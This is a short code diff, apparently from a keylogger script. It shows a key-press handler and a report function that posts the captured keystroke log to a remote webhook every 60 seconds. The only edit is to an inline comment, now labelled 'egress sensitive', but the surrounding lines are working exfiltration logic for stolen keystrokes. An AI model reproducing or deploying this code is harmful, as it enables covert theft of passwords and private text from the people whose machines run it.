@@ -10,7 +10,7 @@ def on_press(key):
 def report():
     global log
     if log:
-        requests.post(HOOK, json={"content": log})  # egress
+        requests.post(HOOK, json={"content": log})  # egress sensitive
     log = ""
     threading.Timer(60, report).start()
 
